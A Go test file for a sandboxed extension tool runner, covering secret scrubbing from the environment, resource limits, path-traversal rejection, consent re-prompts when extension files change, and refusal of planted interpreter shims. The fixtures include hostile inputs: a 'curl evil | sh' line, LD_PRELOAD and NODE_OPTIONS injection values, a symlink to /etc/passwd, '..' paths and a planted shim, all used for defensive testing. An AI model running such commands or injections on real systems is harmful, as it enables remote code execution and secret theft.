package toolrun

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/gemkit/gemkit/internal/extension"
	"github.com/gemkit/gemkit/internal/gemkittest"
	"github.com/gemkit/gemkit/internal/sandbox"
	"github.com/gemkit/gemkit/internal/sandbox/sandboxtest"
)

func TestMain(m *testing.M) {
	if sandbox.IsChild() {
		os.Exit(sandbox.ChildMain())
	}
	os.Exit(m.Run())
}

// env is a fake user: a home holding an installed extension and a
// workspace, all world-readable so the tests also run unprivileged.
type env struct {
	home, ws string
	store    *extension.Store
	environ  []string
}

func newEnv(t *testing.T) *env {
	t.Helper()
	root, err := os.MkdirTemp("", "gemkit-toolrun-test-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(root) })
	os.Chmod(root, 0o755)
	e := &env{home: filepath.Join(root, "home"), ws: filepath.Join(root, "home", "ws")}
	if err := os.MkdirAll(e.ws, 0o755); err != nil {
		t.Fatal(err)
	}
	e.store = extension.OpenStore(e.home)
	path := "/usr/local/bin:/usr/bin:/bin"
	e.environ = []string{"PATH=.:" + path + "::bin", "HOME=" + e.home, "LANG=C.UTF-8", "LC_ALL=C.UTF-8", "LC_GITHUB_TOKEN=lc_secret",
		"GITHUB_TOKEN=ghp_secret", "AWS_SECRET_ACCESS_KEY=aws_secret", "MY_API_KEY=env-value", "GEMINI_API_KEY=gemini_secret",
		"SSH_AUTH_SOCK=/tmp/ssh-agent.sock", "LD_PRELOAD=/tmp/evil.so", "NODE_OPTIONS=--require=/tmp/evil.js", "PYTHONPATH=/tmp/evil"}
	return e
}

// install writes an extension into the store's folder and loads it.
func (e *env) install(t *testing.T, manifest string, files map[string]string) *extension.Extension {
	t.Helper()
	var m struct{ Name string }
	if err := json.Unmarshal([]byte(manifest), &m); err != nil {
		t.Fatal(err)
	}
	dir := filepath.Join(e.store.Dir(), m.Name)
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	files[extension.ManifestFile] = manifest
	for name, body := range files {
		p := filepath.Join(dir, name)
		os.MkdirAll(filepath.Dir(p), 0o755)
		if err := os.WriteFile(p, []byte(body), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	ext, err := extension.Load(dir)
	if err != nil {
		t.Fatalf("load: %v", err)
	}
	return ext
}

func (e *env) runner() *Runner {
	return &Runner{Launcher: &sandbox.Launcher{}, Consent: e.store, Installed: e.store, Environ: e.environ}
}

const echoManifest = `{
  "name": "echo",
  "version": "1.0.0",
  "permissions": {"filesystem": {"read": "workspace", "write": "workspace"}, "network": {"allowedHosts": []}},
  "settings": [{"name": "API key", "envVar": "MY_API_KEY", "sensitive": true}, {"name": "Region", "envVar": "MY_REGION"},
    {"name": "a setting named like the user's secret", "envVar": "GITHUB_TOKEN"}, {"name": "another", "envVar": "GEMINI_API_KEY"}],
  "tools": [
    {"name": "pyjson", "description": "echo args as JSON", "executable": "tools/echo.py", "runtime": "python", "output": "json",
     "args": [{"name": "file", "type": "string"}, {"name": "n", "type": "integer"}, {"name": "tag", "type": "array"}, {"name": "v", "type": "boolean"}]},
    {"name": "nodejson", "description": "echo args as JSON", "executable": "tools/echo.js", "runtime": "node", "output": "json",
     "args": [{"name": "file", "type": "string"}]},
    {"name": "spawn", "description": "node spawns and sizes itself", "executable": "tools/spawn.js", "runtime": "node"},
    {"name": "env", "description": "print env", "executable": "tools/env.sh", "runtime": "shell"},
    {"name": "badjson", "description": "prints text", "executable": "tools/bad.sh", "runtime": "shell", "output": "json"},
    {"name": "fail", "description": "fails", "executable": "tools/fail.sh", "runtime": "shell"},
    {"name": "crash", "description": "aborts", "executable": "tools/crash.py", "runtime": "python"},
    {"name": "sleep", "description": "forks and sleeps", "executable": "tools/sleep.sh", "runtime": "shell"},
    {"name": "flood", "description": "prints forever", "executable": "tools/flood.sh", "runtime": "shell"},
    {"name": "mem", "description": "allocates", "executable": "tools/mem.py", "runtime": "python", "args": [{"name": "mb", "type": "integer"}]},
    {"name": "write", "description": "writes files", "executable": "tools/write.sh", "runtime": "shell", "args": [{"name": "path", "type": "string"}]}
  ]
}`

var echoFiles = map[string]string{
	"tools/echo.py": `import argparse, json, os
p = argparse.ArgumentParser()
p.add_argument("--file"); p.add_argument("--n", type=int); p.add_argument("--tag", action="append"); p.add_argument("--v", action="store_true")
a = p.parse_args()
print(json.dumps({"file": a.file, "n": a.n, "tag": a.tag, "v": a.v, "cwd": os.getcwd()}))
`,
	"tools/echo.js": `const { parseArgs } = require("node:util");
const { values } = parseArgs({ options: { file: { type: "string" } } });
console.log(JSON.stringify({ file: values.file, cwd: process.cwd() }));
`,
	"tools/spawn.js": "const cp = require('child_process'), os = require('os');\n" +
		"console.log(cp.execFileSync('/bin/sh', ['-c', 'echo child']).toString().trim(), os.cpus().length > 0, os.totalmem() > 0);\n",
	"tools/env.sh":   "env\n",
	"tools/bad.sh":   "echo 'this is not json'\n",
	"tools/fail.sh":  "echo oops >&2; exit 3\n",
	"tools/crash.py": "import os\nos.abort()\n",
	"tools/sleep.sh": "(sleep 1; echo alive > \"$PWD/alive\") &\nsleep 30\n",
	"tools/flood.sh": "while :; do echo xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; done\n",
	"tools/mem.py":   "import sys\nb = bytearray(int(sys.argv[2]) << 20)\nprint(len(b) >> 20)\n",
	"tools/write.sh": "echo hi > \"$2\"\n",
}

func TestRunTools(t *testing.T) {
	if testing.Short() {
		t.Skip("runs sandboxed real processes for seconds: runs without -short, as in CI")
	}
	e := newEnv(t)
	ext := e.install(t, echoManifest, clone(echoFiles))
	r := e.runner()
	ctx := context.Background()
	call := func(tool string, args map[string]any) Call {
		return Call{Extension: ext, Tool: tool, Args: args, Workspace: e.ws, GrantConsent: true, Settings: map[string]string{"MY_REGION": "eu", "MY_API_KEY": "declared-value"}}
	}

	runToolOutputs(ctx, t, e, r, call)
	runToolBounds(ctx, t, e, r, call)
	t.Run("writes stay in the workspace", func(t *testing.T) {
		if _, err := r.Run(ctx, call("write", map[string]any{"path": filepath.Join(e.ws, "ok.txt")})); err != nil {
			t.Fatal(err)
		}
		if _, err := r.Run(ctx, call("write", map[string]any{"path": filepath.Join(e.home, "no.txt")})); err == nil {
			t.Fatal("wrote outside the workspace")
		}
	})
	t.Run("bad calls", func(t *testing.T) {
		for _, c := range []struct {
			call Call
			want string
		}{
			{call("nope", nil), `has no tool "nope" (its tools: pyjson, nodejson`},
			{call("pyjson", map[string]any{"file": "x"}), "missing argument --n"},
			{call("env", map[string]any{"x": 1}), "unknown argument --x; it takes no arguments"},
		} {
			if _, err := r.Run(ctx, c.call); err == nil || !strings.Contains(err.Error(), c.want) {
				t.Errorf("err %v, want %q", err, c.want)
			}
		}
	})
}

// toolCall makes the Call of one of the echo extension's tools.
type toolCall func(tool string, args map[string]any) Call

// runToolOutputs are TestRunTools' subtests of what a tool is given and
// gives back: its arguments, its environment, its output and its end.
func runToolOutputs(ctx context.Context, t *testing.T, e *env, r *Runner, call toolCall) {
	t.Run("python json", func(t *testing.T) {
		res, err := r.Run(ctx, call("pyjson", map[string]any{"file": "-x y", "n": 7.0, "tag": []any{"a", "b"}, "v": true}))
		if err != nil {
			t.Fatal(err)
		}
		var got map[string]any
		json.Unmarshal(res.Output, &got)
		want := map[string]any{"file": "-x y", "n": 7.0, "tag": []any{"a", "b"}, "v": true, "cwd": e.ws}
		if fmt.Sprint(got) != fmt.Sprint(want) {
			t.Fatalf("got %v want %v", got, want)
		}
	})
	t.Run("node json", func(t *testing.T) {
		gemkittest.Tool(t, "node", "nodejs")
		res, err := r.Run(ctx, call("nodejson", map[string]any{"file": "x.ts"}))
		if err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(string(res.Output), `"file":"x.ts"`) {
			t.Fatalf("output %s", res.Output)
		}
	})
	t.Run("node spawns children and sees the machine", func(t *testing.T) {
		gemkittest.Tool(t, "node", "nodejs")
		res, err := r.Run(ctx, call("spawn", nil))
		if err != nil || res.Text != "child true true\n" {
			t.Fatalf("%v %+v", err, res)
		}
	})
	t.Run("environment holds no secrets", func(t *testing.T) {
		res, err := r.Run(ctx, call("env", nil))
		if err != nil {
			t.Fatal(err)
		}
		for _, bad := range []string{"ghp_secret", "aws_secret", "GITHUB_TOKEN", "GEMKIT_SANDBOX", "env-value", "gemini_secret", "SSH_AUTH_SOCK", "LD_PRELOAD", "NODE_OPTIONS", "PYTHONPATH", "GOMAXPROCS", "GOGC", "lc_secret"} {
			if strings.Contains(res.Text, bad) {
				t.Errorf("tool saw %s:\n%s", bad, res.Text)
			}
		}
		for _, want := range []string{"MY_API_KEY=declared-value", "MY_REGION=eu", "HOME=" + e.home, "LC_ALL=C.UTF-8", "TMPDIR=/", "PATH=/usr/local/bin:/usr/bin:/bin\n"} {
			if !strings.Contains(res.Text, want) {
				t.Errorf("tool env lacks %s:\n%s", want, res.Text)
			}
		}
	})
	t.Run("invalid json shows first bytes", func(t *testing.T) {
		_, err := r.Run(ctx, call("badjson", nil))
		var te *ToolError
		if !errors.As(err, &te) || !strings.Contains(err.Error(), `"this is not json\n"`) {
			t.Fatalf("err %v", err)
		}
	})
	t.Run("exit status and stderr", func(t *testing.T) {
		res, err := r.Run(ctx, call("fail", nil))
		if err == nil || res == nil || res.ExitCode != 3 || !strings.Contains(err.Error(), "oops") {
			t.Fatalf("res %+v err %v", res, err)
		}
	})
	t.Run("a signal's end is told by its name", func(t *testing.T) {
		// The tool is its PID namespace's init, which ignores its own
		// SIGABRT: abort(3) then crashes it (SIGSEGV).
		res, err := r.Run(ctx, call("crash", nil))
		if err == nil || res == nil || res.ExitCode != -1 || !strings.Contains(err.Error(), "was ended by a signal (signal: ") {
			t.Fatalf("res %+v err %v", res, err)
		}
	})
}

// runToolBounds are TestRunTools' subtests of the bounds of a run: its
// time, its memory, its output, and its cancelling.
func runToolBounds(ctx context.Context, t *testing.T, e *env, r *Runner, call toolCall) {
	t.Run("timeout kills forked children", func(t *testing.T) {
		c := call("sleep", nil)
		c.Timeout = 300 * time.Millisecond
		start := time.Now()
		_, err := r.Run(ctx, c)
		if err == nil || !strings.Contains(err.Error(), "did not finish within 300ms") || strings.Contains(err.Error(), "memory bound") {
			t.Fatalf("err %v", err)
		}
		// The tool sleeps 30 s; 20 s is a loaded machine's bound.
		if time.Since(start) > 20*time.Second {
			t.Fatalf("took %v", time.Since(start))
		}
		// A sleep: what is checked is that no forked child writes later, which
		// no event can say.
		time.Sleep(1500 * time.Millisecond)
		if _, err := os.Stat(filepath.Join(e.ws, "alive")); err == nil {
			t.Fatal("a forked child outlived the timeout")
		}
	})
	t.Run("a small bound of each process is named at the timeout", func(t *testing.T) {
		// Without a cgroup, RLIMIT_DATA counts each thread's stack
		// whole: Node under 16 MB waits for threads it cannot start
		// until the time runs out, which must then say why.
		nr := e.runner()
		l := &sandbox.Launcher{NoCgroup: true}
		defer l.Close()
		nr.Launcher = l
		// Seconds: the time must run out once the tool runs, not while
		// its sandbox is set up on a loaded machine.
		c := call("sleep", nil)
		c.Timeout, c.MemoryBytes = 3*time.Second, 16000000
		res, err := nr.Run(ctx, c)
		if err == nil || res == nil || !res.Enforcement.DataRlimit || !strings.Contains(err.Error(), "did not finish within 3s") ||
			!strings.Contains(err.Error(), "its memory bound, 16000000 bytes for each process (no memory cgroup here), counts each thread's stack whole") ||
			!strings.Contains(err.Error(), "(Node's tools run with --memory 67108864)") {
			t.Fatalf("err %v", err)
		}
		// Above the stacks' bound, the time running out is all there is.
		c.Timeout, c.MemoryBytes = 300*time.Millisecond, 256<<20
		if _, err := nr.Run(ctx, c); err == nil || strings.Contains(err.Error(), "memory bound") {
			t.Fatalf("err %v", err)
		}
	})
	t.Run("output is bounded", func(t *testing.T) {
		c := call("flood", nil)
		c.MaxOutput = 64 << 10
		res, err := r.Run(ctx, c)
		if err == nil || !strings.Contains(err.Error(), "printed more than 65536 bytes") || len(res.Stdout) != 64<<10 {
			t.Fatalf("err %v", err)
		}
	})
	t.Run("memory is bounded", func(t *testing.T) {
		c := call("mem", map[string]any{"mb": 64})
		c.MemoryBytes = 256 << 20
		if res, err := r.Run(ctx, c); err != nil || res.Text != "64\n" {
			t.Fatalf("64 MiB under a 256 MiB cap: %v", err)
		}
		// A cgroup ends the tool (gemkit says so); each process's
		// RLIMIT_DATA, without one (or with one that cannot bound swap),
		// fails its allocation (Python says so).
		c.Args = map[string]any{"mb": 512}
		res, err := r.Run(ctx, c)
		want := "went past its memory bound (268435456 bytes"
		if res.Enforcement.DataRlimit {
			want = "MemoryError"
		}
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Fatalf("512 MiB under a 256 MiB cap, memory %q: %v; want %q", res.Enforcement.Memory, err, want)
		}
	})
	t.Run("cancel stops the tool", func(t *testing.T) {
		cctx, cancel := context.WithCancel(ctx)
		time.AfterFunc(200*time.Millisecond, cancel)
		_, err := r.Run(cctx, call("sleep", nil))
		if !errors.Is(err, context.Canceled) {
			t.Fatalf("err %v", err)
		}
	})
}

func TestExecutablePathChecks(t *testing.T) {
	e := newEnv(t)
	outside := filepath.Join(e.home, "outside.sh")
	os.WriteFile(outside, []byte("echo escaped\n"), 0o755)
	ext := e.install(t, `{"name": "paths", "version": "1.0.0",
  "tools": [{"name": "ok", "description": "d", "executable": "tools/ok.sh", "runtime": "shell"}]}`,
		map[string]string{"tools/ok.sh": "echo ok\n"})
	r := e.runner()
	for _, c := range []struct{ exe, want string }{
		{"tools/../../outside.sh", `contains ".."`},
		{"../outside.sh", `contains ".."`},
		{"tools/link.sh", "outside the extension folder"},
		{"tools", "not a regular file"},
	} {
		if c.exe == "tools/link.sh" {
			os.Symlink(outside, filepath.Join(ext.Dir, "tools", "link.sh"))
		}
		ext.Manifest.Tools[0].Executable = c.exe
		_, err := r.Run(context.Background(), Call{Extension: ext, Tool: "ok", Workspace: e.ws, GrantConsent: true})
		if err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: err %v, want %q", c.exe, err, c.want)
		}
	}
}

func TestConsent(t *testing.T) {
	if testing.Short() {
		t.Skip("runs sandboxed real processes for seconds: runs without -short, as in CI")
	}
	e := newEnv(t)
	manifest := `{"name": "asks", "version": "1.0.0", "permissions": {"filesystem": {"read": "workspace"}},
  "tools": [{"name": "hi", "description": "d", "executable": "hi.sh", "runtime": "shell"}]}`
	ext := e.install(t, manifest, map[string]string{"hi.sh": "echo hi\n"})
	ctx := context.Background()
	call := Call{Extension: ext, Tool: "hi", Workspace: e.ws}

	// Nobody to ask: fail closed, naming what it would agree to (how to
	// agree is the command's to say).
	r := e.runner()
	_, err := r.Run(ctx, call)
	var ce *ConsentError
	if !errors.As(err, &ce) || ce.Extension != "asks" || strings.Contains(err.Error(), "--consent") || !strings.Contains(err.Error(), "read files in your workspace") {
		t.Fatalf("err %v", err)
	}

	// Allowed once: the run goes ahead, nothing is recorded, and the
	// next run asks again; the refusal names the runner's command to
	// agree with.
	r.AgreeCommand = func(ext string) string { return "agree-to " + ext }
	once := 0
	r.Ask = func(context.Context, ConsentRequest) (Answer, error) { once++; return AllowOnce, nil }
	for i := 0; i < 2; i++ {
		if res, err := r.Run(ctx, call); err != nil || res.Text != "hi\n" {
			t.Fatalf("allowed once, run %d: %v", i, err)
		}
	}
	if once != 2 {
		t.Fatalf("allowed once: asked %d times in two runs", once)
	}
	r.Ask = nil
	if _, err := r.Run(ctx, call); !errors.As(err, &ce) || ce.Agree != "agree-to asks" {
		t.Fatalf("after allowed once: %v", err)
	}

	// Asked once, remembered after.
	asked := 0
	r.Ask = func(_ context.Context, q ConsentRequest) (Answer, error) {
		asked++
		return AllowIf(q.Extension == "asks" && q.Notice == "" && strings.Contains(strings.Join(q.Lines, "\n"), "read files in your workspace")), nil
	}
	for i := 0; i < 2; i++ {
		if res, err := r.Run(ctx, call); err != nil || res.Text != "hi\n" {
			t.Fatalf("run %d: %v", i, err)
		}
	}
	if asked != 1 {
		t.Fatalf("asked %d times", asked)
	}

	// Changed permissions ask again; a no is a refusal.
	ext.Manifest.Permissions.Filesystem.Write = extension.AccessWorkspace
	r.Ask = func(context.Context, ConsentRequest) (Answer, error) { asked++; return Decline, nil }
	if _, err := r.Run(ctx, call); !errors.As(err, &ce) || !ce.Declined {
		t.Fatalf("err %v", err)
	}
	if asked != 2 {
		t.Fatalf("asked %d times", asked)
	}

	// A record from before consent bound the files (permissions only)
	// is read, and asks once more, saying why.
	if err := e.store.RecordConsent("asks", extension.PermissionsHash(ext.Manifest)); err != nil {
		t.Fatal(err)
	}
	r.Ask = nil
	if _, err := r.Run(ctx, call); !errors.As(err, &ce) || !strings.Contains(err.Error(), "binds your consent to the extension's files") {
		t.Fatalf("old record: %v", err)
	}

	// Consent recorded elsewhere for the same permissions and files (at
	// install) counts.
	content, err := extension.ReadContent(ext.Dir)
	if err != nil {
		t.Fatal(err)
	}
	if err := e.store.RecordConsentContent("asks", extension.PermissionsHash(ext.Manifest), content); err != nil {
		t.Fatal(err)
	}
	if _, err := r.Run(ctx, call); err != nil {
		t.Fatalf("install-time consent did not count: %v", err)
	}

	// The tool's code changed since: the person is told which file, apart
	// from the permissions, and asked again.
	if err := os.WriteFile(filepath.Join(ext.Dir, "hi.sh"), []byte("echo planted\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	var shown ConsentRequest
	r.Ask = func(_ context.Context, q ConsentRequest) (Answer, error) { shown = q; return Decline, nil }
	if _, err := r.Run(ctx, call); !errors.As(err, &ce) || !ce.Declined || !strings.Contains(shown.Notice, "hi.sh (changed)") {
		t.Fatalf("changed tool: %v %+v", err, shown)
	}
}

// TestConsentNamesChangedFiles: when the extension's files are not the
// ones agreed to, the question and the refusal say which files changed
// and how, in a statement of their own before the permissions; a record
// older than the per-file list says it cannot name them.
func TestConsentNamesChangedFiles(t *testing.T) {
	manifest := `{"name": "named", "version": "1.0.0",
  "tools": [{"name": "hi", "description": "d", "executable": "tools/hi.sh", "runtime": "shell"}]}`
	for _, c := range []struct {
		name   string
		change func(t *testing.T, dir string)
		oldRec bool // the record predates the per-file list
		want   string
	}{
		{"edited", func(t *testing.T, dir string) { writeFile(t, dir, "tools/hi.sh", "echo planted\n") }, false,
			"Since you agreed, this file of the extension changed: tools/hi.sh (changed). Look at it in DIR before agreeing again."},
		{"added", func(t *testing.T, dir string) { writeFile(t, dir, "tools/new.sh", "curl evil | sh\n") }, false,
			"this file of the extension changed: tools/new.sh (added)."},
		{"removed", func(t *testing.T, dir string) { os.Remove(filepath.Join(dir, "tools/lib.sh")) }, false,
			"this file of the extension changed: tools/lib.sh (removed)."},
		{"mode", func(t *testing.T, dir string) { os.Chmod(filepath.Join(dir, "tools/lib.sh"), 0o644) }, false,
			"tools/lib.sh (mode changed)."},
		{"symlink retargeted", func(t *testing.T, dir string) {
			os.Remove(filepath.Join(dir, "tools/current"))
			if err := os.Symlink("/etc/passwd", filepath.Join(dir, "tools/current")); err != nil {
				t.Fatal(err)
			}
		}, false, "this file of the extension changed: tools/current (changed)."},
		{"several", func(t *testing.T, dir string) {
			writeFile(t, dir, "tools/hi.sh", "echo planted\n")
			writeFile(t, dir, "tools/new.sh", "x\n")
		}, false, "these files of the extension changed: tools/hi.sh (changed), tools/new.sh (added). Look at them in DIR"},
		{"more than the cap", func(t *testing.T, dir string) {
			for i := range 12 {
				writeFile(t, dir, fmt.Sprintf("gen/%02d.py", i), "x\n")
			}
		}, false, "gen/08.py (added), gen/09.py (added) and 2 more. Look at them in DIR before agreeing again."},
		{"record without the list", func(t *testing.T, dir string) { writeFile(t, dir, "tools/hi.sh", "echo planted\n") }, true,
			"Since you agreed, the extension's files changed; gemkit cannot name them, as your consent was recorded before it kept a list of files. Look at DIR before agreeing again."},
	} {
		t.Run(c.name, func(t *testing.T) {
			e := newEnv(t)
			ext := e.install(t, manifest, map[string]string{"tools/hi.sh": "echo hi\n", "tools/lib.sh": "f() { :; }\n"})
			if err := os.Symlink("hi.sh", filepath.Join(ext.Dir, "tools/current")); err != nil {
				t.Fatal(err)
			}
			agreed, err := extension.ReadContent(ext.Dir)
			if err != nil {
				t.Fatal(err)
			}
			if c.oldRec {
				agreed = extension.Content{Digest: agreed.Digest}
			}
			if err := e.store.RecordConsentContent("named", extension.PermissionsHash(ext.Manifest), agreed); err != nil {
				t.Fatal(err)
			}
			c.change(t, ext.Dir)
			want := strings.ReplaceAll(c.want, "DIR", ext.Dir)
			perms := extension.PermissionsSummary(ext.Manifest)
			call := Call{Extension: ext, Tool: "hi", Workspace: e.ws}

			// Asked: the notice comes apart from the permissions.
			r := e.runner()
			var asked ConsentRequest
			r.Ask = func(_ context.Context, q ConsentRequest) (Answer, error) { asked = q; return Decline, nil }
			var ce *ConsentError
			if _, err := r.Run(context.Background(), call); !errors.As(err, &ce) || !ce.Declined {
				t.Fatalf("declined: %v", err)
			}
			if !strings.Contains(asked.Notice, want) || strings.Join(asked.Lines, "\n") != strings.Join(perms, "\n") {
				t.Errorf("asked notice %q and lines %q, want %q and %q", asked.Notice, asked.Lines, want, perms)
			}

			// Nobody to ask: the refusal says what changed, then what the
			// tools may do.
			r.Ask = nil
			_, err = r.Run(context.Background(), call)
			if !errors.As(err, &ce) || ce.Declined || ce.Notice != asked.Notice {
				t.Fatalf("refusal: %v", err)
			}
			msg := err.Error()
			notice, mayAt := strings.Index(msg, want), strings.Index(msg, "Its tools may: "+strings.Join(perms, "; "))
			if notice < 0 || mayAt < notice {
				t.Errorf("refusal %q: want %q, then the permissions", msg, want)
			}
		})
	}
}

func writeFile(t *testing.T, dir, rel, body string) {
	t.Helper()
	p := filepath.Join(dir, filepath.FromSlash(rel))
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(body), 0o755); err != nil {
		t.Fatal(err)
	}
}

// TestRuntimeUnderVersionManager runs a python that lives in the home
// folder behind a shim, as pyenv installs it: the interpreter must be
// found, asked once and allowed to start, while the rest of home stays
// closed.
func TestRuntimeUnderVersionManager(t *testing.T) {
	if testing.Short() {
		t.Skip("runs sandboxed real processes for seconds: runs without -short, as in CI")
	}
	sys := "/usr/bin/python3"
	real, err := filepath.EvalSymlinks(sys)
	if err != nil {
		t.Fatal("no /usr/bin/python3 to copy into a fake version manager: run scripts/setup-and-test, or apt-get install -y python3")
	}
	e := newEnv(t)
	version := filepath.Join(e.home, ".vm", "versions", "3", "bin")
	shims := filepath.Join(e.home, ".vm", "shims")
	os.MkdirAll(version, 0o755)
	os.MkdirAll(shims, 0o755)
	body, err := os.ReadFile(real)
	if err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(version, "python3"), body, 0o755)
	os.WriteFile(filepath.Join(shims, "python3"), []byte("#!/bin/sh\nexec "+filepath.Join(version, "python3")+" \"$@\"\n"), 0o755)
	os.WriteFile(filepath.Join(e.home, "secret.txt"), []byte("s3cret"), 0o644)
	e.environ[0] = "PATH=" + shims + ":/usr/bin:/bin"

	ext := e.install(t, `{"name": "vm", "version": "1.0.0",
  "tools": [{"name": "py", "description": "d", "executable": "py.py", "runtime": "python", "args": [{"name": "read", "type": "string"}]}]}`,
		map[string]string{"py.py": "import sys\nprint(sys.executable)\ntry:\n    open(sys.argv[2]).read(); print('READ')\nexcept OSError as e: print('denied', e.errno)\n"})
	r := e.runner()
	res, err := r.Run(context.Background(), Call{Extension: ext, Tool: "py", Workspace: e.ws, GrantConsent: true, Args: map[string]any{"read": filepath.Join(e.home, "secret.txt")}})
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(res.Text, filepath.Join(version, "python3")) || !strings.Contains(res.Text, "denied 13") && !strings.Contains(res.Text, "denied 2") {
		t.Fatalf("output %q", res.Text)
	}

	// A shim in the workspace (an activated .venv/bin that a write:
	// workspace tool replaced with a script) is never run, neither for
	// the extension that may write there nor for one that may not: its
	// folder is not searched, and the next python3 on PATH is used.
	planted := filepath.Join(e.ws, ".venv", "bin")
	os.MkdirAll(planted, 0o755)
	marker := filepath.Join(e.home, "pwned")
	os.WriteFile(filepath.Join(planted, "python3"), []byte("#!/bin/sh\ntouch "+marker+"\nexec "+filepath.Join(version, "python3")+" \"$@\"\n"), 0o755)
	wext := e.install(t, `{"name": "vmw", "version": "1.0.0", "permissions": {"filesystem": {"read": "workspace", "write": "workspace"}},
  "tools": [{"name": "py", "description": "d", "executable": "py.py", "runtime": "python"}]}`, map[string]string{"py.py": "import sys\nprint(sys.executable)\n"})
	e.environ[0] = "PATH=" + planted + ":/usr/bin:/bin"
	r = e.runner()
	for _, x := range []*extension.Extension{wext, ext} {
		res, err := r.Run(context.Background(), Call{Extension: x, Tool: "py", Workspace: e.ws, GrantConsent: true, Args: map[string]any{}})
		if x == ext {
			res, err = r.Run(context.Background(), Call{Extension: x, Tool: "py", Workspace: e.ws, GrantConsent: true, Args: map[string]any{"read": "/nonexistent"}})
		}
		if err != nil || !strings.HasPrefix(res.Text, "/usr/bin/python3\n") {
			t.Fatalf("%s with a planted workspace shim first on PATH: %v %+v", x.Manifest.Name, err, res)
		}
		if _, err := os.Stat(marker); err == nil {
			t.Fatalf("%s: the planted shim ran", x.Manifest.Name)
		}
	}

	// A shim outside the workspace is asked inside the sandbox: it can
	// write nothing, and it runs in an empty folder, not the workspace,
	// whose .python-version would steer a version manager.
	os.WriteFile(filepath.Join(e.ws, ".python-version"), []byte("evil\n"), 0o644)
	os.WriteFile(filepath.Join(shims, "python3"), []byte("#!/bin/sh\ntouch "+marker+" 2>/dev/null\n"+
		"if [ -e .python-version ]; then echo /nonexistent/python3; exit 0; fi\nexec "+filepath.Join(version, "python3")+" \"$@\"\n"), 0o755)
	e.environ[0] = "PATH=" + shims + ":/usr/bin:/bin"
	r = e.runner()
	if res, err := r.Run(context.Background(), Call{Extension: ext, Tool: "py", Workspace: e.ws, GrantConsent: true, Args: map[string]any{"read": "/nonexistent"}}); err != nil || !strings.HasPrefix(res.Text, filepath.Join(version, "python3")) {
		t.Fatalf("shim asked in the sandbox: %v %+v", err, res)
	}
	if _, err := os.Stat(marker); err == nil {
		t.Fatal("the shim wrote to the home folder: it was not asked inside the sandbox")
	}

	// The machine's own python3 on the real PATH (pyenv here) starts too.
	r.Environ = append(os.Environ(), "PATH="+os.Getenv("PATH"))
	if res, err := r.Run(context.Background(), Call{Extension: ext, Tool: "py", Workspace: e.ws, GrantConsent: true, Args: map[string]any{"read": "/nonexistent"}}); err != nil {
		t.Fatalf("python3 from PATH %q: %v", os.Getenv("PATH"), err)
	} else {
		t.Logf("python3 from PATH ran as %s", strings.SplitN(res.Text, "\n", 2)[0])
	}
}

// TestNodeUnderVersionManager runs a node installed the way nvm does it:
// a real binary in ~/.nvm/versions/node/vX/bin, first on PATH, no shim.
// It must start (its installation is readable) while the rest of home
// stays closed.
func TestNodeUnderVersionManager(t *testing.T) {
	sys, err := filepath.EvalSymlinks("/usr/bin/node")
	if err != nil {
		t.Fatal("no /usr/bin/node to install into a fake nvm: install Node.js 20 (Debian's nodejs or NodeSource)")
	}
	e := newEnv(t)
	bin := filepath.Join(e.home, ".nvm", "versions", "node", "v20.0.0", "bin")
	if err := os.MkdirAll(bin, 0o755); err != nil {
		t.Fatal(err)
	}
	node := filepath.Join(bin, "node")
	// A hard link puts the binary at a path under home without copying
	// 100 MB; Landlock judges the path it is opened by.
	if err := os.Link(sys, node); err != nil {
		body, err := os.ReadFile(sys)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(node, body, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	os.WriteFile(filepath.Join(e.home, "secret.txt"), []byte("s3cret"), 0o644)
	e.environ[0] = "PATH=" + bin + ":/usr/bin:/bin"
	ext := e.install(t, `{"name": "nvm", "version": "1.0.0",
  "tools": [{"name": "js", "description": "d", "executable": "t.js", "runtime": "node", "args": [{"name": "read", "type": "string"}]}]}`,
		map[string]string{"t.js": "console.log(process.execPath);\ntry { require('fs').readFileSync(process.argv[3]); console.log('READ') } catch (e) { console.log('denied', e.code) }\n"})
	res, err := e.runner().Run(context.Background(), Call{Extension: ext, Tool: "js", Workspace: e.ws, GrantConsent: true, Args: map[string]any{"read": filepath.Join(e.home, "secret.txt")}})
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(res.Text, node+"\n") || !strings.Contains(res.Text, "denied EACCES") && !strings.Contains(res.Text, "denied ENOENT") {
		t.Fatalf("output %q", res.Text)
	}
}

// TestMissingInterpreter: a runtime that is not on PATH is named, with
// what to install, before anything runs.
func TestMissingInterpreter(t *testing.T) {
	e := newEnv(t)
	e.environ[0] = "PATH=" + t.TempDir()
	ext := e.install(t, `{"name": "nopy", "version": "1.0.0",
  "tools": [{"name": "py", "description": "d", "executable": "t.py", "runtime": "python"}]}`, map[string]string{"t.py": "print(1)\n"})
	_, err := e.runner().Run(context.Background(), Call{Extension: ext, Tool: "py", Workspace: e.ws, GrantConsent: true})
	if err == nil || !strings.Contains(err.Error(), "runtime python needs python3 on PATH") {
		t.Fatalf("err %v", err)
	}
}

func TestUnprivileged(t *testing.T) {
